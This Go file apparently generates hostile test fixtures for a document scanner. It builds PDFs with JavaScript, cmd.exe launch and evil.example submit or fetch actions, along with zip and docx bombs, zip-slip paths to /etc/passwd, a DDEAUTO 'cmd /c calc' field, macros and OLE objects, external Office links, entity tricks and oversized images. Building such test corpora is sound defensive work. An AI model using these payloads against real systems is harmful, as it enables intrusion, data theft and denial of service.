package hostile

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"strings"
)

// pdfs act, fetch, or hide what does.
func pdfs() []File {
	var all []File
	for name, object := range map[string]string{
		"js": "/OpenAction<</S/JavaScript/JS(" + attack + ")>>", "js-escaped": "/OpenAction<</S/J#61vaScript/#4a#53(x)>>", "aa": "/AA<</O<</S/JavaScript/JS(x)>>>>",
		"names": "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>", "launch": "/OpenAction<</S/Launch/F(cmd.exe)>>", "uri": "/OpenAction<</S/URI/URI(http://evil.example/)>>",
		"submit": "/OpenAction<</S/SubmitForm/F(http://evil.example/)>>", "remote": "/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>",
		"files": "/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 2 0 R>>>>]>>>>", "media": "/Annots[<</Subtype/RichMedia>>]", "xfa": "/AcroForm<</XFA 3 0 R>>",
		"encrypted": "/Encrypt<</Filter/Standard>>", "packed": "", "deep": strings.Repeat("<<", 100_000),
	} {
		body := "%PDF-1.7\n1 0 obj<</Type/Catalog" + object + ">>endobj\n"
		if name == "packed" {
			body += "2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n" + zlibbed("1 0 <</S/JavaScript/JS(x)>>") + "\nendstream endobj\n"
		}
		all = append(all, File{"pdf-" + name + ".pdf", body + "trailer<</Root 1 0 R>>\n%%EOF"})
	}
	bomb := "%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n" + zlibbed(strings.Repeat("/x ", 20_000_000)) + "\nendstream endobj\n%%EOF"
	return append(all, File{"pdf-bomb.pdf", bomb})
}

func zlibbed(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = io.WriteString(w, s) // a buffer takes everything
	_ = w.Close()
	return b.String()
}

// zipped makes an archive of names and contents.
func zipped(pairs ...string) string {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i+1 < len(pairs); i += 2 {
		f, err := w.Create(pairs[i])
		if err == nil {
			_, _ = io.WriteString(f, pairs[i+1]) // a buffer takes everything
		}
	}
	_ = w.Close()
	return b.String()
}

// document is a Word document with some more parts.
func document(parts ...string) string {
	return zipped(append([]string{"[Content_Types].xml", `<Types/>`, "_rels/.rels", relations(""), "word/document.xml", "<w:document/>"}, parts...)...)
}

func relations(list string) string {
	return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + list + `</Relationships>`
}

func external(kind string) string {
	return relations(`<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="http://evil.example/x" TargetMode="External"/>`)
}

// packed are archives and Office documents that burst, overwrite, fetch or act.
func packed() []File {
	zeros := strings.Repeat("\x00", 120_000_000)
	bomb := zipped("a", zeros)
	deep := "akte"
	for range 8 {
		deep = zipped("a.zip", deep)
	}
	var many []string
	for i := range 10_100 {
		many = append(many, fmt.Sprintf("map/stuk %d.txt", i), "")
	}
	all := []File{
		{"bomb.zip", bomb},
		{"bomb-nested.zip", zipped("a.zip", bomb, "b.zip", bomb, "c.zip", bomb)},
		{"bomb.docx", document("word/media/a.bin", zeros)},
		{"deep.zip", deep},
		{"many.zip", zipped(many...)},
		{"overlap.zip", overlap()},
		{"torn.zip", bomb[:len(bomb)/2]},
		{"self.zip", bomb + bomb},
		{"twice.docx", document("word/document.xml", "<other/>")},
		{"slip.zip", zipped("../../etc/passwd", "x")},
		{"slip-windows.zip", zipped(`..\..\a.exe`, "x")},
		{"root.zip", zipped("/etc/passwd", "x")},
		{"slip.docx", document("../a", "x")},
		{"program.zip", zipped("factuur.pdf.exe", "MZ")},
		{"page.zip", zipped("a.html", "<script>"+attack+"</script>")},
		{"rtl.zip", zipped("a\u202efdp.exe", "MZ")},
		{"lines.zip", zipped("a\r\nb", "x")},
		{"macros.docx", document("word/vbaProject.bin", "x")},
		{"activex.docx", document("word/activeX/activeX1.bin", "x")},
		{"object.docx", document("word/embeddings/oleObject1.bin", "MZ")},
		{"laughs.docx", document("word/a.xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">]><a>&a;</a>`)},
		{"laughs.odt", zipped("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", `<!DOCTYPE a [<!ENTITY a "ha">]><a/>`)},
		{"macros.odt", zipped("mimetype", "application/vnd.oasis.opendocument.text", "Basic/script-lc.xml", "x")},
		{"remote.odt", zipped("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", `<d:image xmlns:d="d" xmlns:x="http://www.w3.org/1999/xlink" x:href="http://evil.example/a.png"/>`)},
		{"script.odt", zipped("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", `<s:event-listener xmlns:s="s" xmlns:x="http://www.w3.org/1999/xlink" x:href="vnd.sun.star.script:../../a.py$f?language=Python"/>`)},
		{"dde.docx", zipped("[Content_Types].xml", `<Types/>`, "word/document.xml", `<w:document xmlns:w="w"><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:document>`)},
		{"jar.zip", zipped("META-INF/MANIFEST.MF", "Main-Class: A", "A.class", "\xca\xfe\xba\xbe")},
	}
	for _, kind := range []string{"attachedTemplate", "image", "oleObject", "frame", "subDocument", "externalLinkPath", "hyperlink"} {
		all = append(all, File{"external-" + kind + ".docx", document("word/_rels/document.xml.rels", external(kind))})
	}
	return all
}

// overlap is an archive whose entries are all made of the same bytes.
func overlap() string {
	one := zipped("0", strings.Repeat("a", 1000))
	at, end := strings.Index(one, "PK\x01\x02"), strings.Index(one, "PK\x05\x06")
	out := []byte(one[:at])
	for n := range 9 {
		entry := []byte(one[at:end])
		entry[46] = byte('0' + n)
		out = append(out, entry...)
	}
	tail := []byte(one[end:])
	binary.LittleEndian.PutUint16(tail[8:], 9)
	binary.LittleEndian.PutUint16(tail[10:], 9)
	binary.LittleEndian.PutUint32(tail[12:], uint32(9*(end-at))) // #nosec G115 -- a file of our own making, some kilobytes long
	return string(append(out, tail...))
}

// floods are images that say they are large, or are torn.
func floods() []File {
	dot := image.NewGray(image.Rect(0, 0, 1, 1))
	var p, g, j bytes.Buffer
	_, _, _ = png.Encode(&p, dot), gif.Encode(&g, dot, nil), jpeg.Encode(&j, dot, nil) // a buffer takes everything
	huge := p.Bytes()
	binary.BigEndian.PutUint32(huge[16:], 1<<30)
	binary.BigEndian.PutUint32(huge[20:], 1<<30)
	binary.BigEndian.PutUint32(huge[29:], crc32.ChecksumIEEE(huge[12:29]))
	wide := g.Bytes()
	binary.LittleEndian.PutUint16(wide[6:], 65535)
	binary.LittleEndian.PutUint16(wide[8:], 65535)
	tall := j.Bytes()
	frame := bytes.Index(tall, []byte("\xff\xc0"))
	binary.BigEndian.PutUint16(tall[frame+5:], 65535)
	binary.BigEndian.PutUint16(tall[frame+7:], 65535)
	bmp := append([]byte("BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00"), bytes.Repeat([]byte{0xff, 0xff, 0xff, 0x7f, 1, 0, 24, 0}, 10)...)
	return []File{
		{"huge.png", string(huge)},
		{"huge.gif", string(wide)},
		{"huge.jpg", string(tall)},
		{"huge.bmp", string(bmp)},
		{"torn.png", string(huge[:40])},
		{"torn.jpg", string(tall[:30])},
		{"huge.webp", "RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\xff\xff\xff\x0f\x00\x00\x00\x00\x00"},
		{"huge.tif", "II*\x00\x08\x00\x00\x00\xff\xff" + strings.Repeat("\xff", 200)},
		{"script.jpg", string(j.Bytes()[:2]) + "\xff\xfe\x01\x00<script>" + attack + "</script>"},
	}
}
